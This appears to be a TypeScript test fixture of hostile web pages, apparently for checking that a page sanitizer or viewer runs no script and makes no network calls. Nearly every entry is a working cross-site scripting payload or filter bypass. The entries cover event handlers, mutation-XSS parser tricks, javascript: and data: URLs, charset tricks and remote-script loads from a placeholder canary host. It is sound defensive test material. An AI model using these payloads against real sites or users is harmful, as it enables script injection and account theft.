/**
 * Pages that want to act when they are looked at. `RAN` is what a script would do (it asks the canary, shows a dialog,
 * changes the title), `CANARY` an address that a fetch would reach. Each is one trick, or one known way round a filter.
 */
export interface Hostile {
  name: string;
  body: string | Uint8Array;
  type?: string;
  /** Further header lines of the answer. */
  headers?: readonly (readonly [string, string])[];
}

/** What scripts in the documents do, in a form that fits into an attribute. */
export const RAN = "new Image().src='CANARY/ran';top.ran=1;document.title='ran';console.log('ran');alert('ran')";

const html = (name: string, inner: string): Hostile => ({
  name,
  body: `<!doctype html><html><head><title>${name}</title></head><body><p>通知：无人机 ${name}</p>${inner}</body></html>`,
});
const head = (name: string, inner: string): Hostile => ({
  name,
  body: `<!doctype html><html><head>${inner}<title>${name}</title></head><body><p>通知：无人机 ${name}</p></body></html>`,
});
const bytes = (...parts: (string | number[])[]): Uint8Array =>
  Buffer.concat(parts.map((part) => (typeof part === 'string' ? Buffer.from(part, 'latin1') : Buffer.from(part))));
const SCRIPT = `<script>${RAN}</script>`;
const ONERROR = `<img src=x onerror="${RAN}">`;

export const HOSTILE: readonly Hostile[] = [
  html('a script', SCRIPT),
  html(
    'a script from elsewhere',
    '<script src="CANARY/x.js"></script><script type="module" src="CANARY/m.js"></script>',
  ),
  html('a script in odd letters', `<ScRiPt/x>${RAN}</sCrIpT ><script\n>${RAN}</script\t>`),
  html('a script never closed', `<script>${RAN}`),
  html('a script inside a script', `<scr<script>x</script>ipt>${RAN}</scr</script>ipt>`),
  html(
    'handlers of every kind',
    `<body onload="${RAN}" onpageshow="${RAN}"><img src=x onerror="${RAN}"><details open ontoggle="${RAN}"><summary>x</summary></details><input autofocus onfocus="${RAN}"><div onanimationstart="${RAN}" style="animation:a 1s">x</div><style>@keyframes a{from{color:red}}</style><marquee onstart="${RAN}">x</marquee><video src=x onerror="${RAN}"></video><a onmouseover="${RAN}" tabindex=1 onfocus="${RAN}" autofocus>x</a>`,
  ),
  html(
    'a handler split by blanks and slashes',
    `<img/src=x/onerror\n=\n"${RAN}"/><img src=x\fonerror="${RAN}"><img src='x'onerror="${RAN}">`,
  ),
  html(
    'a handler behind broken quotes',
    `<img alt="\`><img src=x onerror=${JSON.stringify(RAN)}>"><img title='">${ONERROR}'>`,
  ),
  html(
    'svg with a script',
    `<svg xmlns="http://www.w3.org/2000/svg"><script>${RAN}</script><g onload="${RAN}"></g></svg><svg onload="${RAN}"></svg>`,
  ),
  html(
    'svg with foreign content',
    `<svg><foreignObject><iframe srcdoc="${SCRIPT.replaceAll('"', '&quot;')}"></iframe><body xmlns="http://www.w3.org/1999/xhtml">${ONERROR}</body></foreignObject></svg>`,
  ),
  html(
    'svg that animates a link',
    `<svg><a><animate attributeName="href" values="javascript:${RAN}" begin="0s"/><text y="20">x</text></a><set attributeName="onload" to="${RAN}"/></svg>`,
  ),
  html(
    'svg use and image',
    '<svg><use href="CANARY/use.svg#x"/><image href="CANARY/i.png" xlink:href="CANARY/x.png"/><feImage href="CANARY/f.png"/></svg>',
  ),
  html(
    'mathml',
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RAN.replaceAll('"', '')}&gt;"></table></mtext><maction actiontype="statusline" xlink:href="javascript:${RAN}">x</maction></math>`,
  ),
  html('mXSS: svg style', `<svg></p><style><a id="</style>${ONERROR.replaceAll('"', '&quot;')}">`),
  html('mXSS: noscript', `<noscript><p title="</noscript>${ONERROR.replaceAll('"', "'")}"></noscript>`),
  html(
    'mXSS: form and table',
    `<form><math><mtext></form><form><mglyph><style></math>${ONERROR}</style></mglyph></form></mtext></math><table><a>${ONERROR}</a></table>`,
  ),
  html(
    'mXSS: textarea, title, xmp',
    `<textarea><img title="</textarea>${ONERROR.replaceAll('"', "'")}"></textarea><title><a title="</title>${ONERROR.replaceAll('"', "'")}"></title><xmp><p title="</xmp>${ONERROR.replaceAll('"', "'")}"></xmp>`,
  ),
  html(
    'mXSS: select, template',
    `<select><template><style><!--</style><a rel="--></style></template></select>${ONERROR.replaceAll('"', "'")}">`,
  ),
  html(
    'mXSS: noembed, iframe, plaintext',
    `<noembed><p title="</noembed>${ONERROR.replaceAll('"', "'")}"></noembed><iframe><p title="</iframe>${ONERROR.replaceAll('"', "'")}"></iframe><plaintext>${ONERROR}`,
  ),
  html(
    'nested comments',
    `<!--<!-- -->${ONERROR}--><!-->${SCRIPT}--><!--->${SCRIPT}--><!-- --!>${SCRIPT}--><!DOCTYPE [<!ENTITY x "<script>">]>${ONERROR}<![CDATA[${SCRIPT}]]>`,
  ),
  html(
    'conditional comments and processing instructions',
    `<!--[if true]>${SCRIPT}<![endif]--><?xml-stylesheet href="CANARY/x.css"?><?php ${SCRIPT} ?>`,
  ),
  head(
    'meta refresh',
    '<meta http-equiv="refresh" content="0;url=CANARY/away"><meta http-equiv="Refresh" content="0; URL=\'CANARY/away2\'">',
  ),
  html(
    'meta refresh to a script',
    `<meta http-equiv="refresh" content="0;url=javascript:${RAN}"><meta http-equiv="refresh" content="0;url=data:text/html,${encodeURIComponent(SCRIPT)}">`,
  ),
  head(
    'a policy and a cookie of the page',
    '<meta http-equiv="Content-Security-Policy" content="script-src *"><meta http-equiv="set-cookie" content="a=b"><meta http-equiv="x-dns-prefetch-control" content="on"><link rel="dns-prefetch" href="//canary.example"><link rel="preconnect" href="CANARY">',
  ),
  head('base', '<base href="CANARY/" target="_top"><link rel="stylesheet" href="s.css"><script src="x.js"></script>'),
  head(
    'links of every kind',
    [
      'stylesheet',
      'icon',
      'prefetch',
      'preload',
      'modulepreload',
      'manifest',
      'prerender',
      'import',
      'alternate stylesheet',
    ]
      .map((rel) => `<link rel="${rel}" as="image" href="CANARY/${rel.replaceAll(' ', '')}">`)
      .join(''),
  ),
  html(
    'forms',
    `<form id=f action="CANARY/form" method=post><input name=a value=b><button formaction="javascript:${RAN}">x</button><input type=image src="CANARY/button.png"></form><script>f.submit()</script><isindex action="CANARY/i">`,
  ),
  html(
    'styles that fetch',
    `<style>@import url(CANARY/i.css);@import "CANARY/j.css";body{background:url(CANARY/b.png)}@font-face{font-family:x;src:url(CANARY/f.woff)}p{font-family:x}</style><div style="background:url(CANARY/s.png)">x</div><div style="background-image:image-set('CANARY/set.png' 1x)">x</div><div style="background:u\\72l(CANARY/esc.png)">x</div><div style="background:/**/url/**/(CANARY/c.png)">x</div><div style="list-style:url(CANARY/l.png);cursor:url(CANARY/k.cur),auto;border-image:url(CANARY/bi.png) 1;content:url(CANARY/co.png);mask:url(CANARY/m.svg)">x</div>`,
  ),
  html(
    'styles that run',
    `<div style="width:expression(${RAN.replaceAll("'", '&#39;')})">x</div><div style="-moz-binding:url(CANARY/x.xml#x)">x</div><div style="behavior:url(CANARY/x.htc)">x</div><div style="color:red;}</style>${ONERROR.replaceAll('"', "'")}">x</div>`,
  ),
  html(
    'a style that leaves its attribute',
    `<p style="color:red&quot; onmouseover=&quot;${RAN}">x</p><p style='font-family:"x" onload="${RAN.replaceAll("'", '')}"'>x</p><p style="color:#f00;--x:url(CANARY/v.png);background:var(--x)">x</p>`,
  ),
  html(
    'a style that covers everything',
    '<div style="position:fixed;inset:0;z-index:9999;background:red">covered</div><div style="margin:-5000px;padding:9999px">moved</div>',
  ),
  html(
    'javascript addresses',
    `<a href="javascript:${RAN}">x</a><a href=" java\nscript:${RAN}">x</a><a href="&#106;avascript:${RAN}">x</a><iframe src="javascript:${RAN}"></iframe><object data="javascript:${RAN}"></object><embed src="javascript:${RAN}"><form action="javascript:${RAN}"><input type=submit></form>`,
  ),
  html(
    'data addresses',
    `<a href="data:text/html,${encodeURIComponent(SCRIPT)}">x</a><iframe src="data:text/html,${encodeURIComponent(SCRIPT)}"></iframe><object data="data:text/html,${encodeURIComponent(SCRIPT)}"></object><img src="data:image/svg+xml,${encodeURIComponent(`<svg xmlns="http://www.w3.org/2000/svg" onload="${RAN}"/>`)}"><img src="data:image/png;base64,${Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" onload="${RAN}"/>`).toString('base64')}">`,
  ),
  html(
    'a template with a shadow',
    `<div><template shadowrootmode="open">${SCRIPT}${ONERROR}<slot></slot></template>x</div><template>${SCRIPT}</template>`,
  ),
  html(
    'noscript that fetches',
    '<noscript><img src="CANARY/noscript.png"><meta http-equiv="refresh" content="0;url=CANARY/ns"></noscript>',
  ),
  html(
    'pictures of every kind',
    '<img src="CANARY/a.png" srcset="CANARY/b.png 1x, CANARY/c.png 2x" data-src="CANARY/d.png" lowsrc="CANARY/l.png" dynsrc="CANARY/y.png"><picture><source srcset="CANARY/e.png"><img src="CANARY/f.png"></picture><input type=image src="CANARY/g.png"><body background="CANARY/h.png"><table background="CANARY/i.png"><tr><td background="CANARY/j.png">x</td></tr></table><image src="CANARY/k.png">',
  ),
  html(
    'sound and film',
    '<video poster="CANARY/p.png" src="CANARY/v.mp4" autoplay><track src="CANARY/t.vtt"></video><audio src="CANARY/a.mp3" autoplay></audio><bgsound src="CANARY/b.wav">',
  ),
  html(
    'frames',
    `<iframe src="CANARY/frame"></iframe><iframe srcdoc="${SCRIPT.replaceAll('"', '&quot;')}" sandbox="allow-scripts allow-top-navigation"></iframe><frameset onload="${RAN}"><frame src="CANARY/f2"></frameset><portal src="CANARY/p"></portal><fencedframe src="CANARY/ff"></fencedframe>`,
  ),
  html(
    'objects',
    '<object data="CANARY/o.swf" type="application/x-shockwave-flash"><param name="movie" value="CANARY/m.swf"></object><embed src="CANARY/e.swf"><applet code="X" codebase="CANARY/"></applet>',
  ),
  html(
    'links that tell',
    '<a href="CANARY/ping" ping="CANARY/pinged" target="_top">x</a><a href="//canary.example/proto" target="_blank" rel="opener">x</a><area href="CANARY/area"><map name=m><area shape=rect coords="0,0,999,999" href="CANARY/m"></map>',
  ),
  html(
    'imports by a script of the page',
    '<script>fetch("CANARY/fetch");navigator.sendBeacon("CANARY/beacon");new WebSocket("ws://canary.example/");new EventSource("CANARY/es");importScripts</script>',
  ),
  html(
    'a way out of the frame',
    '<script>top.location="CANARY/top";parent.location="CANARY/parent";window.open("CANARY/open")</script><a id=l href="CANARY/click" target=_top>x</a><script>l.click()</script>',
  ),
  html(
    'names that cover the document',
    '<form name=body><input name=cookie></form><img name=getElementById><a id=location href="CANARY/x">x</a><iframe name=top></iframe>',
  ),
  {
    name: 'a title with markup',
    body: `<!doctype html><html><head><title>&lt;/title&gt;${SCRIPT.replaceAll('<', '&lt;')}${ONERROR.replaceAll('<', '&lt;')}</title><meta name="ArticleTitle" content='"><script>${RAN.replaceAll("'", '')}</script>'></head><body><div id="zoom"><p>通知：无人机</p></div></body></html>`,
  },
  {
    name: 'a title that closes itself',
    body: `<!doctype html><html><head><title>通知</title>${SCRIPT}</title></head><body><p>通知：无人机</p></body></html>`,
  },
  {
    ...html('header values with markup', ''),
    type: `text/html; charset="><script>${RAN.replaceAll("'", '')}</script>`,
    headers: [
      ['X-Powered-By', SCRIPT],
      ['Content-Disposition', `attachment; filename=""><script>alert(1)</script>.html"`],
      ['Refresh', '0;url=CANARY/refresh'],
      ['Link', '<CANARY/l.css>; rel=stylesheet'],
      ['Location', 'javascript:alert(1)'],
    ],
  },
  {
    name: 'UTF-7',
    body: '<html><head><meta charset="utf-7"><title>utf7</title></head><body>+ADw-script+AD4-alert(1)+ADw-/script+AD4- <p>通知</p></body></html>',
    type: 'text/html; charset=utf-7',
  },
  {
    name: 'ISO-2022-JP escapes',
    body: bytes(
      '<html><head><meta charset="iso-2022-jp"><title>jis</title></head><body><p title="',
      [0x1b, 0x24, 0x42],
      '">',
      [0x1b, 0x28, 0x42],
      `<img src=x onerror="${RAN}">`,
      [0x1b, 0x28, 0x4a],
      `\\"${ONERROR}</p></body></html>`,
    ),
    type: 'text/html',
  },
  {
    name: 'UTF-16 without a mark',
    body: Buffer.from(`<html><head><title>u</title></head><body>${SCRIPT}${ONERROR}</body></html>`, 'utf16le'),
    type: 'text/html; charset=utf-16le',
  },
  {
    name: 'GBK that swallows a quote',
    body: bytes(
      '<html><head><meta charset="gbk"><title>gbk</title></head><body><p title="',
      [0x81],
      `" onmouseover="${RAN}" x="">x</p>${ONERROR}</body></html>`,
    ),
    type: 'text/html; charset=gbk',
  },
  {
    name: 'NULs and overlong letters',
    body: bytes(
      `<html><body><scr\0ipt>${RAN}</scr\0ipt><img src=x one\0rror="${RAN}">`,
      [0xc0, 0xbc],
      `script>${RAN}`,
      [0xc0, 0xbc],
      '/script>',
      '<\0script>',
      RAN,
      '</script></body></html>',
    ),
    type: 'text/html; charset=utf-8',
  },
  {
    ...html('direction and control characters', '<p>\u202Egnp.exe\u2066 \u0007\u001b]0;x\u0007 \u0085\u2028</p>'),
    name: 'direction and control characters',
  },
  html('eleven hundred elements deep', '<div>'.repeat(1_100) + ONERROR),
  html('eight hundred formattings deep', '<b><i><u>'.repeat(266) + ONERROR + SCRIPT),
  html('a table nobody closes', '<table><tr><td>'.repeat(200) + ONERROR),
  html('many closing tags', '<section>'.repeat(300) + '</x></b></p>'.repeat(300) + ONERROR),
  {
    name: 'an SVG file',
    body: `<svg xmlns="http://www.w3.org/2000/svg" onload="${RAN}"><script>${RAN}</script><image href="CANARY/i.png"/></svg>`,
    type: 'image/svg+xml',
  },
  {
    name: 'XHTML',
    body: `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><head><title>x</title></head><body><script><![CDATA[${RAN}]]></script><p>通知</p></body></html>`,
    type: 'application/xhtml+xml',
  },
  {
    name: 'XML with a stylesheet',
    body: '<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="CANARY/x.xsl"?><!DOCTYPE r [<!ENTITY x SYSTEM "CANARY/ent">]><r>&x;</r>',
    type: 'text/xml',
  },
  { name: 'plain text that looks like a page', body: `just words ${SCRIPT}${ONERROR}`, type: 'text/plain' },
  { name: 'JSON with markup', body: JSON.stringify({ title: SCRIPT, text: ONERROR }), type: 'application/json' },
  { name: 'a PDF that is a page', body: `%PDF-1.7\n${SCRIPT}${ONERROR}`, type: 'application/pdf' },
  { name: 'a PNG that is a page', body: bytes('\x89PNG\r\n\x1a\n', SCRIPT, ONERROR), type: 'image/png' },
  { name: 'no type at all', body: `${SCRIPT}${ONERROR}<p>通知</p>`, type: '' },
];

/** The document with a real address in place of CANARY, byte for byte otherwise. */
export function armed({ body }: Hostile, canary: string): Uint8Array {
  if (typeof body === 'string') return Buffer.from(body.replaceAll('CANARY', canary));
  return Buffer.from(Buffer.from(body).toString('latin1').replaceAll('CANARY', canary), 'latin1');
}
